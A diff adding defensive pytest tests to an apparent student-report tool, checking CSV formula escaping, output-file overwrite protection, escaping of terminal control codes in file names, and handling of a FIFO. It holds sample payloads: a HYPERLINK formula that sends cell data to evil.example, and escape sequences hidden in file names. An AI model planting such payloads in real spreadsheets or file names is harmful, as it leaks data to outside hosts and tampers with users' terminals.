@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import hashlib
 import io
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -466,3 +467,66 @@ def test_a_run_that_fails_on_another_pack_version_accuses_no_one(
         bob = next(r for r in csv.DictReader(f) if r["student"] == "Bob")
     assert bob["check"] == "unverified"
     assert "checked on version 99.0" in bob["detail"] and "claims score 999" in bob["detail"]
+
+
+def test_a_formula_as_a_students_name_stays_text_in_the_csv(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_engine: type[FakeReplay]
+) -> None:
+    """Issue 11: a student named `=HYPERLINK(...)` landed in --csv as a formula."""
+    _honest_play(tmp_path / "eve", [("flash-sale", "cp-lock", 1, {})])
+    folder = tmp_path / "class"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert _export(tmp_path / "eve", formula, folder / "eve.capquest", monkeypatch) == 0
+    out_csv = tmp_path / "class.csv"
+    assert main(["report", str(folder), "--csv", str(out_csv)]) == 0
+    with open(out_csv, encoding="utf-8-sig") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["student"] == "'" + formula
+    from capquest.cli.report import csv_cell
+
+    assert [csv_cell(v) for v in ("+1", "-x", "@SUM(A1)", "\tx", "Ada", -12.5)] == [
+        "'+1", "'-x", "'@SUM(A1)", "'\tx", "Ada", -12.5,
+    ]  # fmt: skip
+
+
+def test_the_csv_never_overwrites_an_export_it_reads(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    fake_engine: type[FakeReplay],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    folder = _class(tmp_path, monkeypatch)
+    bob = folder / "Bob.capquest"
+    before = bob.read_bytes()
+    for args in ([str(bob), "--csv", str(bob)], [str(folder), "--csv", str(bob)]):
+        capsys.readouterr()
+        assert main(["report", *args]) == 2
+        assert "one of the files being read" in capsys.readouterr().err
+        assert bob.read_bytes() == before
+
+
+def test_a_file_name_with_escape_codes_is_printed_escaped(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    fake_engine: type[FakeReplay],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Issue 11: `report` printed a student's file name raw."""
+    folder = _class(tmp_path, monkeypatch)
+    (folder / "Bob.capquest").rename(folder / "\x1b]0;PWNED\x07.capquest")
+    (folder / "\x1b[2Jbroken.capquest").write_bytes(b"junk")
+    capsys.readouterr()
+    main(["report", str(folder)])
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out
+    assert "\\x1b[2Jbroken.capquest" in out
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
+def test_a_pipe_handed_to_report_is_listed_not_read(
+    tmp_path: Path, fake_engine: type[FakeReplay], capsys: pytest.CaptureFixture[str]
+) -> None:
+    pipe = tmp_path / "pipe.capquest"
+    os.mkfifo(pipe)  # reading it waited forever for a writer
+    assert main(["report", str(pipe)]) == 1
+    assert "not a regular file" in capsys.readouterr().out
